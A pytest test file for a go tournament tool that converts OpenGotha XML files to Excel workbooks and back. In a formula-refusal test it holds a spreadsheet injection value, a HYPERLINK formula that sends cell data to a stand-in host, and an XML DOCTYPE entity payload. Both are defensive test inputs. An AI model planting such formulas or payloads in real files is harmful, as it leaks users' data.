"""OpenGotha files to workbooks and back (formats.opengotha.convert), on real .xlsx files."""

from __future__ import annotations

import dataclasses
import datetime as dt
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from gosheet.core.errors import ConsistencyError, InputError
from gosheet.core.model import Game, Player, Result, Round, Tournament
from gosheet.core.pairing import Pairing
from gosheet.core.results import ALL_CODES, CANONICAL, parse_result
from gosheet.core.settings import Settings
from gosheet.formats.opengotha.convert import OG_RESULTS, from_opengotha, opengotha_book
from gosheet.formats.opengotha.export import to_opengotha
from gosheet.formats.opengotha.xml import (
    GAME_RESULTS,
    OGBye,
    OGElement,
    OGGame,
    OGPlayer,
    OGTournament,
    player_key,
    read_opengotha,
    write_opengotha,
)
from gosheet.workbook.reader import read_book
from gosheet.workbook.sheets import player_headers
from gosheet.workbook.template import new_book
from gosheet.workbook.writer import round_sheet
from gosheet.workbook.xlsx import XlsxBook

FIXTURES = Path(__file__).parent / "fixtures" / "opengotha"
NAMES = ("simplemm", "notsimplemm", "simpleswiss", "notsosimpleswiss", "toulouse2024")
NOW = dt.datetime(2026, 5, 17, 9, 30, 0)


def fixture(name: str) -> Path:
    return FIXTURES / name / f"{name}.xml"


def imported_book(og: OGTournament, path: Path, **options: Any) -> Path:
    """The workbook of ``og``, saved and so written for real."""
    opengotha_book(from_opengotha(og, **options)).save(path)
    return path


def export(path: Path) -> OGTournament:
    return to_opengotha(XlsxBook.open(path).grids(), source=path.name, now=NOW)


def sheet_rows(path: Path, sheet: str) -> list[list[Any]]:
    ws = load_workbook(path)[sheet]
    return [list(row) for row in ws.iter_rows(values_only=True)]


def edit(path: Path, sheet: str, changes: dict[tuple[int, str], Any]) -> None:
    """Set cells by (row number from 1, header) and save the workbook."""
    workbook = load_workbook(path)
    ws = workbook[sheet]
    header = [c.value for c in ws[1]]
    for (row, column), value in changes.items():
        if column not in header:
            header.append(column)
            ws.cell(row=1, column=len(header), value=column)
        ws.cell(row=row, column=header.index(column) + 1, value=value)
    workbook.save(path)


def setting_row(path: Path, label: str) -> int:
    rows = sheet_rows(path, "Settings")
    return next(i for i, row in enumerate(rows, 1) if row[0] == label)


def player_row(path: Path, name: str) -> int:
    rows = sheet_rows(path, "Players")
    return next(i for i, row in enumerate(rows, 1) if row[0] == name)


# --------------------------------------------------------------------- the round trip


@pytest.mark.parametrize("name", NAMES)
def test_import_then_export_gives_the_file_back(name: str, tmp_path: Path) -> None:
    original = fixture(name).read_bytes()
    og = read_opengotha(original)
    book = imported_book(og, tmp_path / f"{name}.xlsx")
    back = export(book)
    # players, their attributes, games, byes, parameters, criteria, team parameters …
    assert back == og
    assert back.players == og.players and back.games == og.games and back.byes == og.byes
    assert back.parameters == og.parameters and back.extra == og.extra
    # and in fact the very bytes OpenGotha wrote
    assert write_opengotha(back) == original


@pytest.mark.parametrize("name", NAMES)
def test_the_workbook_reads_back_as_the_imported_tournament(name: str, tmp_path: Path) -> None:
    og = read_opengotha(fixture(name))
    imported = from_opengotha(og)
    book = tmp_path / "cup.xlsx"
    opengotha_book(imported).save(book)
    state = XlsxBook.open(book).read()
    assert state.tournament == imported.tournament
    t = imported.tournament
    assert len(t.players) == len(og.players)
    assert sum(len(r.games) for r in t.rounds) == len(og.games)
    assert sum(len(r.byes) for r in t.rounds) == len(og.byes)
    assert len(t.rounds) == og.number_of_rounds
    names = load_workbook(book).sheetnames
    assert names == [
        "Settings",
        "Players",
        *(f"Round {r}" for r in range(1, len(t.rounds) + 1)),
        "OpenGotha",
    ]


def test_what_the_tournament_holds() -> None:
    mm = from_opengotha(read_opengotha(fixture("simplemm"))).tournament
    s = mm.settings
    assert (s.system, s.rules, s.game, s.rounds, s.komi, s.name) == (
        "mcmahon",
        "opengotha",
        "go",
        5,
        7.5,
        "SimpleMM",
    )
    assert (s.opengotha.mm_bar, s.opengotha.mm_floor, s.opengotha.mm_zero) == (3, -20, -30)
    assert s.opengotha.placement == ("MMS", "SOSM", "SOSOSM")
    assert s.opengotha.pai_seed_system1 == "SPLITANDSLIP" and s.opengotha.pai_rank_threshold == 0
    assert s.opengotha.og_blocks is True and s.opengotha.categories == ()
    first = mm.players[0]
    assert (first.surname, first.first_name, first.rank, first.rating, first.club) == (
        "Robin",
        "Clé",
        -10,
        1129,
        "13Ma",
    )
    game = mm.rounds[0].games[0]
    assert (game.table, game.handicap, game.komi, game.result) == (1, 0, 7.5, Result.WHITE_WINS)
    assert [g.komi for g in mm.rounds[0].games if g.handicap] == [0.5, 0.5]  # handicap games

    swiss = from_opengotha(read_opengotha(fixture("simpleswiss"))).tournament
    assert swiss.settings.system == "swiss" and swiss.settings.opengotha.hd_ceiling == 0
    assert swiss.settings.opengotha.placement == ("NBW", "SOSW", "SOSOSW")

    other = from_opengotha(read_opengotha(fixture("notsimplemm"))).tournament
    by_name = {p.surname: p for p in other.players}
    assert by_name["Bonjean"].not_playing == {2}  # participating="10111…"
    assert other.rounds[0].byes and other.rounds[1].byes == ()
    assert other.settings.opengotha.mm_bar == 0 and other.settings.opengotha.hd_correction == 1


def test_until_round_keeps_the_first_rounds(tmp_path: Path) -> None:
    og = read_opengotha(fixture("notsimplemm"))
    for k in (0, 2, 5):
        imported = from_opengotha(og, until_round=k)
        t = imported.tournament
        assert [r.number for r in t.rounds] == list(range(1, k + 1))
        kept = [g for g in og.games if g.round_number <= k]
        assert sum(len(r.games) for r in t.rounds) == len(kept)
        assert imported.games_dropped == len(og.games) + len(og.byes) - len(kept) - sum(
            len(r.byes) for r in t.rounds
        )
        assert t.settings.rounds == 5 and len(t.players) == 9
        book = imported_book(og, tmp_path / f"k{k}.xlsx", until_round=k)
        back = export(book)
        assert back == dataclasses.replace(
            og,
            games=tuple(
                sorted(kept, key=lambda g: (g.round_number, g.table_number)) if k < 5 else og.games
            ),
            byes=tuple(b for b in og.byes if b.round_number <= k),
        )
        assert XlsxBook.open(book).read().tournament.next_round_number == k + 1


def test_import_overrides(tmp_path: Path) -> None:
    og = read_opengotha(fixture("simplemm"))
    t = from_opengotha(og, rounds=7, name="Cup", komi=6.5, random_seed=42).tournament
    assert (t.settings.rounds, t.settings.name, t.settings.komi, t.settings.random_seed) == (
        7,
        "Cup",
        6.5,
        42,
    )
    back = export(imported_book(og, tmp_path / "cup.xlsx", rounds=7, name="Cup", komi=6.5))
    general = back.parameters["GeneralParameterSet"]
    assert (general["numberOfRounds"], general["name"], general["komi"]) == ("7", "Cup", "6.5")


# ------------------------------------------------------------------ edits are exported


def test_edits_in_the_workbook_are_exported(tmp_path: Path) -> None:
    og = read_opengotha(fixture("simplemm"))
    book = imported_book(og, tmp_path / "cup.xlsx")
    edit(book, "Players", {(player_row(book, "Fiorina"), "Rating"): 2150})
    edit(book, "Players", {(player_row(book, "Noguchi"), "MMS correction"): 1})
    edit(book, "Players", {(player_row(book, "Durand"), "Not playing"): "4, 5"})
    edit(book, "Players", {(player_row(book, "Durand"), "EGD PIN"): "12345678"})
    edit(book, "Settings", {(setting_row(book, "McMahon bar"), "Value"): "2d"})
    edit(book, "Settings", {(setting_row(book, "Categories"), "Value"): "5k, 15k"})
    edit(book, "Settings", {(setting_row(book, "Placement criteria"), "Value"): "MMS, SOSM"})
    edit(book, "Round 1", {(2, "Result"): "B+"})  # a spelling: rewritten as 0-1
    edit(book, "Round 1", {(3, "Result"): "1-1!"})
    save_dt = next(i for i, r in enumerate(sheet_rows(book, "OpenGotha"), 1) if r[2] == "saveDT")
    edit(book, "OpenGotha", {(save_dt, "Value"): "20260101120000"})
    back = export(book)
    by_key = {p.key: p for p in back.players}
    assert by_key["FIORINABAPTISTE"].rating == 2150
    assert by_key["NOGUCHIMOTOKI"].smms_correction == 1
    assert by_key["DURANDROMAIN"].participating == "111" + "00" + "1" * 15
    assert by_key["DURANDROMAIN"].egf_pin == "12345678"
    assert back.parameters["GeneralParameterSet"]["genMMBar"] == "2D"
    assert back.parameters["GeneralParameterSet"]["numberOfCategories"] == "3"
    assert back.parameter_children["GeneralParameterSet"] == (
        OGElement(
            "Categories",
            children=(
                OGElement("Category", (("lowerLimit", "5K"), ("number", "1"))),
                OGElement("Category", (("lowerLimit", "15K"), ("number", "2"))),
            ),
        ),
    )
    assert back.placement_criteria == ("MMS", "SOSM", "NULL", "NULL", "NULL", "NULL")
    first = [g for g in back.games if g.round_number == 1]
    assert (first[0].result, first[1].result) == ("RESULT_BLACKWINS", "RESULT_BOTHWIN_BYDEF")
    assert back.attributes["saveDT"] == "20260101120000"
    # everything else is as in the file
    assert by_key["ROBINCLÉ"] == og.players[0]
    assert back.games[2:] == og.games[2:]
    # the categories go back into a workbook
    again = from_opengotha(back).tournament.settings
    assert again.opengotha.categories == (-5, -15) and again.opengotha.mm_bar == 1


def test_players_added_or_removed_later(tmp_path: Path) -> None:
    og = read_opengotha(fixture("simplemm"))
    book = imported_book(og, tmp_path / "cup.xlsx", until_round=0)
    rows = sheet_rows(book, "Players")
    header = rows[0]
    new_row = len(rows) + 1
    edit(
        book,
        "Players",
        {
            (new_row, "Name"): "Newcomer",
            (new_row, "First name"): "Nina",
            (new_row, "Rank"): "3k",
            (new_row, "Club"): "Lyon",
            (new_row, "Registration"): "PRE",
            (new_row + 1, "Name"): "Rated",
            (new_row + 1, "First name"): "Ray",
            (new_row + 1, "Rating"): 1850,
        },
    )
    assert header.index("Registration") < header.index("EGD PIN")
    # a player taken off the roster: his OpenGotha rows stay, and are ignored
    workbook = load_workbook(book)
    workbook["Players"].delete_rows(player_row(book, "Robin"))
    workbook.save(book)
    back = export(book)
    assert len(back.players) == 17
    newcomer, rated = back.players[-2:]
    assert newcomer == OGPlayer(
        name="Newcomer",
        first_name="Nina",
        rank="3K",
        rating=1800,  # the nominal rating of 3k
        club="Lyon",
        registering_status="PRE",
        extra={
            "agaExpirationDate": "",
            "agaId": "",
            "ffgLicenceStatus": "",
            "grade": "3K",
            "ratingOrigin": "",
        },
    )
    assert (rated.rank, rated.rating, rated.extra["grade"]) == ("2K", 1850, "2K")
    assert "ROBINCLÉ" not in {p.key for p in back.players}
    # a PRE player is never paired: every round is one he does not play
    state = XlsxBook.open(book).read()
    nina = state.tournament.players[-2]
    assert nina.not_playing == frozenset(range(1, 6)) and state.preliminary == {nina.number: set()}


# ----------------------------------------------------------- workbooks made by gosheet


def gosheet_book(path: Path, settings: Settings) -> Path:
    players = (
        Player(1, "Lee", "Ann", rank=-3, rating=1750, club="Paris", country="FR"),
        Player(2, "Kim", "Bo", rank=1, not_playing=frozenset({2})),
        Player(3, "Ito", "Yu", rating=1200),
    )
    # a roster's EGD PIN column is the organiser's own under gosheet's rules, and still read
    book = new_book(settings, players, ("EGD PIN",), ((None,), (None,), ("00012345",)))
    t = Tournament(settings, players)
    rnd = Round(1, (Game(1, 2, 1, 0, settings.komi, Result.JIGO_BY_FORFEIT),), (3,))
    book.render(round_sheet(t, Pairing(1, rnd.games, rnd.byes)))
    book.save(path)
    return path


@pytest.mark.parametrize(
    ("system", "first"), [("mcmahon", "MMS"), ("swiss", "NBW"), ("fus", "MMS")]
)
def test_a_workbook_gosheet_made_is_exported_with_opengotha_defaults(
    tmp_path: Path, system: str, first: str
) -> None:
    book = gosheet_book(tmp_path / "cup.xlsx", Settings.preset(system, rounds=4, name="Spring"))
    notes: list[str] = []
    back = to_opengotha(XlsxBook.open(book).grids(), now=NOW, notes=notes)
    assert notes == ["Paris → Pari"]
    assert back.players[0].club == "Pari"
    assert back.attributes == {
        "dataVersion": "201",
        "fullVersionNumber": "3.51.02",
        "runningMode": "SAL",
        "saveDT": "20260517093000",
    }
    shape = read_opengotha(fixture("simplemm" if first == "MMS" else "simpleswiss"))
    assert list(back.parameters) == list(shape.parameters)
    for name, attributes in shape.parameters.items():
        assert set(back.parameters[name]) == set(attributes), name
    general = back.parameters["GeneralParameterSet"]
    assert general["name"] == "Spring" and general["numberOfRounds"] == "4"
    assert (general["beginDate"], general["basicTime"], general["shortName"]) == (
        "2026-05-17",
        "60",
        "Spring",
    )
    assert back.placement_criteria[0] == first
    assert back.extra == shape.extra  # the team parameters OpenGotha writes
    assert [p.key for p in back.players] == ["LEEANN", "KIMBO", "ITOYU"]
    assert [p.rank for p in back.players] == ["3K", "2D", "9K"]
    assert back.players[1].participating == "10" + "1" * 18
    assert back.players[2].egf_pin == "00012345"
    assert back.games == (OGGame(1, 1, "KIMBO", "LEEANN", 0, "RESULT_EQUAL_BYDEF"),)
    assert back.byes == (OGBye("ITOYU", 1),)
    # OpenGotha's reader takes it, and its byte layout
    data = write_opengotha(back)
    assert read_opengotha(data) == back
    assert data.startswith(b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<Tournament')
    # imported again, it is the same tournament
    again = from_opengotha(back).tournament
    assert [p.name for p in again.players] == ["Lee Ann", "Kim Bo", "Ito Yu"]
    assert again.rounds[0].games[0].result is Result.JIGO_BY_FORFEIT


def test_a_swiss_gosheet_book_keeps_the_opengotha_settings_it_lists(tmp_path: Path) -> None:
    book = gosheet_book(tmp_path / "cup.xlsx", Settings.preset("swiss", rounds=3))
    workbook = load_workbook(book)
    workbook["Settings"].append(["Handicap ceiling", 0])
    workbook["Settings"].append(["Placement criteria", "NBW, SOSW, SODOSW"])
    workbook.save(book)
    back = export(book)
    assert back.placement_criteria[:3] == ("NBW", "SOSW", "SODOSW")
    assert back.parameters["HandicapParameterSet"]["hdCeiling"] == "0"


def test_other_games_are_not_exported(tmp_path: Path) -> None:
    settings = Settings.preset("swiss", "oware", rounds=3)
    book = new_book(settings, (Player(1, "Lee"), Player(2, "Kim")))
    book.save(tmp_path / "oware.xlsx")
    with pytest.raises(ConsistencyError, match="OpenGotha files are for go"):
        export(tmp_path / "oware.xlsx")


# --------------------------------------------------------------- rarer file contents


def small(**changes: Any) -> OGTournament:
    players = tuple(
        OGPlayer(name=n, first_name=f, rank=r, rating=rating)
        for n, f, r, rating in (
            ("Lee", "Ann", "3K", 1750),
            ("Kim", "Bo", "1D", 2100),
            ("Ito", "Yu", "5K", 1550),
            ("Sato", "Jo", "2K", 1850),
        )
    )
    base = OGTournament(
        attributes={"saveDT": "20250101000000"},
        players=players,
        parameters={
            "GeneralParameterSet": {"numberOfRounds": "3", "komi": "6.5", "name": "Small"},
            "HandicapParameterSet": {},
            "PlacementParameterSet": {},
            "PairingParameterSet": {},
        },
        placement_criteria=("MMS", "SOSM", "NULL", "NULL", "NULL", "NULL"),
    )
    return dataclasses.replace(base, **changes)


def test_every_opengotha_result_code(tmp_path: Path) -> None:
    assert set(OG_RESULTS.values()) == set(GAME_RESULTS)
    keys = ["LEEANN", "KIMBO", "ITOYU", "SATOJO"]
    games = []
    for n, code in enumerate(GAME_RESULTS):
        r, t = divmod(n, 2)
        white, black = keys[2 * t], keys[2 * t + 1]
        games.append(OGGame(r + 1, t + 1, white, black, result=code))
    og = small(
        games=tuple(games),
        parameters={
            **small().parameters,
            "GeneralParameterSet": {"numberOfRounds": "6", "komi": "6.5", "name": "Small"},
        },
    )
    back = export(imported_book(og, tmp_path / "cup.xlsx"))
    assert [g.result for g in back.games] == list(GAME_RESULTS)
    codes = [row[7] for row in sheet_rows(tmp_path / "cup.xlsx", "Round 1")[1:]]
    assert codes == [None, "1-0"]
    assert {parse_result(c) for c in ALL_CODES} == set(Result)
    assert set(CANONICAL) < set(ALL_CODES) and "1-1" not in CANONICAL


def test_unknown_attributes_and_elements_are_kept(tmp_path: Path) -> None:
    og = read_opengotha(fixture("notsimplemm"))
    first, second, third, fourth, *others = og.players
    players = (
        dataclasses.replace(first, extra={**first.extra, "grade": "", "nickname": "A&B <x>"}),
        dataclasses.replace(second, registering_status="PRE", participating="0" * 20),
        dataclasses.replace(third, participating="101"),  # not OpenGotha's 20 characters
        dataclasses.replace(fourth, egf_pin="12345678", smms_correction=-1),
        *others,
    )
    clubs = OGElement(
        "ClubsGroups",
        children=(
            OGElement("ClubsGroup", (("name", "Sud"),), (OGElement("Club", (("name", "13Ma"),)),)),
        ),
    )
    teams = OGElement("Teams", children=(OGElement("Team", (("teamName", "Ü"),)),))
    note = OGElement("Note", (("lang", "fr"),), text="Été")
    category = OGElement("Category", (("lowerLimit", "2K"), ("number", "1")))
    general = og.parameters["GeneralParameterSet"]
    games = list(og.games)
    games[0] = dataclasses.replace(games[0], known_color=False, extra={"clock": "1:00"})
    byes = list(og.byes)
    byes[0] = dataclasses.replace(byes[0], extra={"why": "odd"})
    og = dataclasses.replace(
        og,
        players=players,
        games=tuple(games),
        byes=tuple(byes),
        parameters={
            **og.parameters,
            "GeneralParameterSet": {**general, "numberOfCategories": "2", "futureOption": "x"},
            "PairingParameterSet": {
                **og.parameters["PairingParameterSet"],
                "paiSePreferMMSDiffRatherThanSameClubsGroup": "2",
            },
            "FutureParameterSet": {"a": "1"},
            "EmptyParameterSet": {},
        },
        parameter_children={
            "GeneralParameterSet": (OGElement("Categories", children=(category,)), note),
            "PlacementParameterSet": (OGElement("Tiebreak", (("x", "1"),)),),
        },
        extra=(teams, *og.extra, clubs),
    )
    og = read_opengotha(write_opengotha(og))  # as a file holds it
    book = imported_book(og, tmp_path / "cup.xlsx")
    back = export(book)
    assert back == og
    assert write_opengotha(back) == write_opengotha(og)
    # Teams go before TournamentParameterSet, as OpenGotha writes them
    text = write_opengotha(back).decode()
    assert text.index("<Teams>") < text.index("<TournamentParameterSet>")
    assert text.index("<TournamentParameterSet>") < text.index("<ClubsGroups>")
    assert from_opengotha(og).tournament.settings.opengotha.categories == (-2,)
    rows = sheet_rows(book, "Players")
    pre = rows[2]
    assert pre[rows[0].index("Registration")] == "PRE"
    assert pre[rows[0].index("Not playing")] == "1, 2, 3, 4, 5"
    assert rows[4][rows[0].index("EGD PIN")] == "12345678"


def test_a_sparse_file_gets_what_opengotha_always_writes(tmp_path: Path) -> None:
    og = small(games=(OGGame(1, 1, "LEEANN", "KIMBO", result="RESULT_WHITEWINS"),))
    back = export(imported_book(og, tmp_path / "cup.xlsx"))
    assert back.games == og.games and back.attributes == og.attributes
    assert back.players[0].extra == {
        "agaExpirationDate": "",
        "agaId": "",
        "ffgLicenceStatus": "",
        "grade": "3K",
        "ratingOrigin": "",
    }
    shape = read_opengotha(fixture("simplemm"))
    for name in ("HandicapParameterSet", "PairingParameterSet"):
        assert set(back.parameters[name]) == set(shape.parameters[name])
    assert "DPParameterSet" not in back.parameters  # the file had none: OpenGotha's defaults


def test_a_long_element_is_kept_over_several_rows(tmp_path: Path) -> None:
    teams = OGElement(
        "Teams",
        children=tuple(
            OGElement("Team", (("teamName", f"Team {i:05d} " + "x" * 40), ("teamNumber", str(i))))
            for i in range(1, 1500)
        ),
    )
    og = read_opengotha(fixture("simplemm"))
    og = read_opengotha(write_opengotha(dataclasses.replace(og, extra=(teams, *og.extra))))
    book = imported_book(og, tmp_path / "cup.xlsx")
    rows = [r for r in sheet_rows(book, "OpenGotha") if r[0] == "XML"]
    assert len(rows) >= 4 and all(len(r[3]) <= 30_000 for r in rows)
    assert rows[1][2] == "Teams (continued)"
    assert export(book) == og


# ------------------------------------------------------------------ bad files, bad books


def test_what_gosheet_cannot_hold_is_reported_at_once() -> None:
    og = small(
        players=(
            *small().players,
            OGPlayer(name="LEE", first_name="ann", rank="35K", rating=9000, smms_correction=12),
            OGPlayer(name="Odd", first_name="One", rank="1D", rating=2000, registering_status="X"),
        ),
        games=(
            OGGame(1, 1, "LEEANN", "KIMBO", 10),
            OGGame(1, 1, "ITOYU", "SATOJO"),
            OGGame(3, 1, "ITOYU", "SATOJO"),
        ),
        parameters={
            **small().parameters,
            "GeneralParameterSet": {
                "numberOfRounds": "3",
                "komi": "six",
                "name": "Small",
                "genMMBar": "4X",
            },
            "PairingParameterSet": {"paiMaSeedSystem1": "SHUFFLE"},
        },
        placement_criteria=("NULL", "XYZ"),
    )
    with pytest.raises(InputError) as caught:
        from_opengotha(og, source="cup.xml")
    found = {(p.cell, p.value): p.message for p in caught.value.problems}
    assert all(p.sheet == "cup.xml" for p in caught.value.problems)
    assert "cannot tell this player from Player 1" in found[("Player 5", "LEE ann")]
    assert ("Player 5", "35K") in found and ("Player 5", 9000) in found
    assert ("Player 5", 12) in found and ("Player 6", "X") in found
    assert "handicap" in found[("Game 1", 10)]
    assert "same table of round 1 as Game 1" in found[("Game 2", 1)]
    assert "round 2 has no game" in found[("round 2", None)]
    assert "--until-round 1" in found[("round 2", None)]
    assert "Komi" in found[("GeneralParameterSet", "six")]
    assert "McMahon bar" in found[("GeneralParameterSet", "4X")]
    assert "Seed system 1" in found[("PairingParameterSet", "SHUFFLE")]
    assert "XYZ" in found[("PlacementParameterSet", "NULL, XYZ")]


def test_formulas_and_overlong_values_are_refused(tmp_path: Path) -> None:
    og = read_opengotha(fixture("simplemm"))
    first, second, *others = og.players
    og = dataclasses.replace(
        og,
        players=(
            dataclasses.replace(first, club='=HYPERLINK("http://evil.example/"&A1)'),
            dataclasses.replace(second, extra={**second.extra, "ratingOrigin": "=1+1"}),
            *others,
        ),
        attributes={**og.attributes, "note": "x" * 40_000},
    )
    with pytest.raises(InputError) as caught:
        from_opengotha(og, source="cup.xml")
    found = {(p.cell, p.message) for p in caught.value.problems}
    assert found == {
        ("Player 1", "club starts with '=': it would be a spreadsheet formula, so it is refused"),
        (
            "Player Fiorina Baptiste",
            "ratingOrigin starts with '=': it would be a spreadsheet formula, so it is refused",
        ),
        ("Tournament", "note is longer than a cell holds (32767)"),
    }


def test_a_tournament_naming_nobody() -> None:
    og = small(games=(OGGame(1, 1, "LEEANN", "GHOST"),), byes=(OGBye("NOBODY", 1),))
    with pytest.raises(InputError) as caught:
        from_opengotha(og)
    assert [(p.cell, p.value) for p in caught.value.problems] == [
        ("Game 1", "GHOST"),
        ("Bye 1", "NOBODY"),
    ]


def test_two_clubs_of_the_same_code_are_told(tmp_path: Path) -> None:
    players = (
        Player(1, "Lee", "Ann", rank=-3, club="Kazan"),
        Player(2, "Kim", "Bo", rank=1, club="Kazakh Go"),
        Player(3, "Ito", "Yu", rank=2, club="Kazan"),
    )
    new_book(Settings(), players).save(tmp_path / "cup.xlsx")
    notes: list[str] = []
    back = to_opengotha(XlsxBook.open(tmp_path / "cup.xlsx").grids(), now=NOW, notes=notes)
    assert notes == [
        "Kazan → Kaza",
        "Kazakh Go → Kaza (as Kazan: OpenGotha takes them for one club)",
    ]
    assert {p.club for p in back.players} == {"Kaza"}


def test_a_bad_opengotha_sheet_is_reported_with_its_cells(tmp_path: Path) -> None:
    og = read_opengotha(fixture("notsimplemm"))
    book = imported_book(og, tmp_path / "cup.xlsx")
    workbook = load_workbook(book)
    ws = workbook["OpenGotha"]
    start = ws.max_row + 1
    ws.append(["Nonsense", None, "a", "b"])
    ws.append(["Tournament", None, "bad name", "x"])
    ws.append(["Tournament", None, "saveDT", "again"])
    ws.append(["Game", "third game", "x", "1"])
    ws.append(["Games", None, "sequence", "1.1"])
    ws.append(["XML", "Tournament", "Evil", '<!DOCTYPE x [<!ENTITY e "e">]><x a="&e;"/>'])
    ws.append(["XML", "Tournament", "Broken", "<x>"])
    ws.append(["XML", "Tournament", "Other (continued)", "<y/>"])
    ws.append(["XML", "Nowhere", "Z", "<z/>"])
    ws.append(["XML", "Tournament", "Players", '<Players><Player name="X"/></Players>'])
    ws.append(["Player", None, "grade", "3K"])
    workbook["Players"]["C2"] = "3x"  # and a problem of the Players sheet, with the others
    workbook.save(book)
    with pytest.raises(InputError) as caught:
        export(book)
    where = {(p.sheet, p.cell) for p in caught.value.problems}
    rows = range(start, start + 11)
    expected = {
        ("OpenGotha", f"A{rows[0]}"),
        ("OpenGotha", f"C{rows[1]}"),
        ("OpenGotha", f"C{rows[2]}"),
        ("OpenGotha", f"B{rows[3]}"),
        ("OpenGotha", f"C{rows[4]}"),
        ("OpenGotha", f"D{rows[5]}"),
        ("OpenGotha", f"D{rows[6]}"),
        ("OpenGotha", f"C{rows[7]}"),
        ("OpenGotha", f"B{rows[8]}"),
        ("OpenGotha", f"D{rows[9]}"),
        ("OpenGotha", f"B{rows[10]}"),
        ("Players", "C2"),
    }
    assert where == expected, caught.value
    text = str(caught.value)
    assert "DOCTYPE" in text and "set twice" in text and "unknown section" in text
    assert "holds <Player>" in text and "needs its Key" in text


def test_what_opengotha_cannot_hold_is_reported_at_export(tmp_path: Path) -> None:
    settings = Settings.preset("mcmahon", rounds=21)
    players = (
        Player(1, "Lee", "Ann", rank=-3),
        Player(2, "Lee A", "nn", rank=-2),  # OpenGotha's key drops the space: LEEANN
        Player(3, "Kim", rank=1, country="Korea"),
        Player(4, "Ito", "Yu", rank=2),
    )
    book = new_book(settings, players)
    t = Tournament(settings, players)
    book.render(round_sheet(t, Pairing(1, (Game(1, 3, 4),), (1, 2))))
    book.save(tmp_path / "cup.xlsx")
    with pytest.raises(InputError) as caught:
        export(tmp_path / "cup.xlsx")
    found = {(p.sheet, p.cell): p.message for p in caught.value.problems}
    assert "at most 20 rounds" in found[("Settings", "B6")]
    assert "LEEANN" in found[("Players", "A3")] and "row 2" in found[("Players", "A3")]
    assert "first name" in found[("Players", "B4")]
    assert "two-letter country" in found[("Players", "F4")]
    assert "one bye a round" in found[("Round 1", "")]
    assert len(found) == 5


def test_players_sheet_columns_under_opengotha_rules() -> None:
    og = Settings.preset("mcmahon", rules="opengotha")
    assert player_headers(og) == (
        "Name",
        "First name",
        "Rank",
        "Rating",
        "Club",
        "Country",
        "Not playing",
        "Registration",
        "EGD PIN",
        "MMS correction",
    )
    assert "Tier" not in player_headers(Settings.preset("swiss", rules="opengotha"))
    assert "Registration" not in player_headers(Settings())


def test_opengotha_columns_are_read_and_checked() -> None:
    settings = [["Setting", "Value"], ["Pairing rules", "opengotha"], ["Rounds", 4]]
    players = [
        ["Name", "Rank", "EGF PIN", "SMMS correction", "Registering status"],
        ["Lee", "3k", 12345678, 2, "pre"],
        ["Kim", "1d", None, "x", "maybe"],
        ["Ito", "2d", "007", -1, None],
    ]
    with pytest.raises(InputError) as caught:
        read_book({"Settings": settings, "Players": players})
    assert {(p.cell, p.value) for p in caught.value.problems} == {("D3", "x"), ("E3", "maybe")}
    players[2][3:] = [None, "FIN"]
    state = read_book({"Settings": settings, "Players": players})
    lee, kim, ito = state.tournament.players
    assert (lee.egd_pin, lee.mms_correction, lee.not_playing) == ("12345678", 2, {1, 2, 3, 4})
    assert state.preliminary == {1: frozenset()}
    assert (ito.egd_pin, ito.mms_correction, kim.not_playing) == ("007", -1, frozenset())
    # gosheet's own rules read the PIN and the correction, not the registration
    state = read_book({"Settings": [["Rounds", 4]], "Players": players})
    assert state.preliminary == {} and state.tournament.players[0].egd_pin == "12345678"


def test_scores_of_the_new_results() -> None:
    from gosheet.core.model import Outcome
    from gosheet.core.opengotha.scores import POINTS2
    from gosheet.core.scoring import points, wins

    game = Game(1, 1, 2, result=Result.BOTH_WIN)
    assert game.outcome_for(1) is game.outcome_for(2) is Outcome.WIN
    assert Game(1, 1, 2, result=Result.BOTH_WIN_BY_FORFEIT).outcome_for(2) is Outcome.FORFEIT_WIN
    assert Game(1, 1, 2, result=Result.JIGO_BY_FORFEIT).outcome_for(1) is Outcome.JIGO
    assert Result.JIGO_BY_FORFEIT.by_forfeit and not Result.BOTH_WIN.by_forfeit
    assert POINTS2[Result.BOTH_WIN] == POINTS2[Result.BOTH_WIN_BY_FORFEIT] == (2, 2)
    assert POINTS2[Result.JIGO_BY_FORFEIT] == (1, 1)
    assert points(Outcome.JIGO, Settings()) == wins(Outcome.JIGO) == Fraction(1, 2)


def test_player_keys_of_the_export_follow_opengotha() -> None:
    assert player_key(OGPlayer(name="Clé", first_name="Robin", rank="1K", rating=2000)) == (
        "CLÉROBIN"
    )


def test_club_groups_go_to_settings_and_come_back(tmp_path: Path) -> None:
    """OpenGotha's ClubsGroups (the last element of its files) become the Club groups
    setting, which geography reads, and the export writes them back where they were."""
    groups = (
        "    <ClubsGroups>\n"
        '        <ClubsGroup name="Toulouse">\n'
        '            <Club name="31To"/>\n'
        '            <Club name="31Co"/>\n'
        "        </ClubsGroup>\n"
        "    </ClubsGroups>\n"
    )
    original = (
        fixture("toulouse2024")
        .read_text("utf-8")
        .replace("</Tournament>\n", groups + "</Tournament>\n")
    )
    og = read_opengotha(original.encode("utf-8"))
    imported = from_opengotha(og)
    assert imported.tournament.settings.opengotha.club_groups == (("Toulouse", ("31To", "31Co")),)
    assert not any("ClubsGroup" in value for *_, value in imported.rows)
    book = imported_book(og, tmp_path / "cup.xlsx")
    assert write_opengotha(export(book)) == original.encode("utf-8")
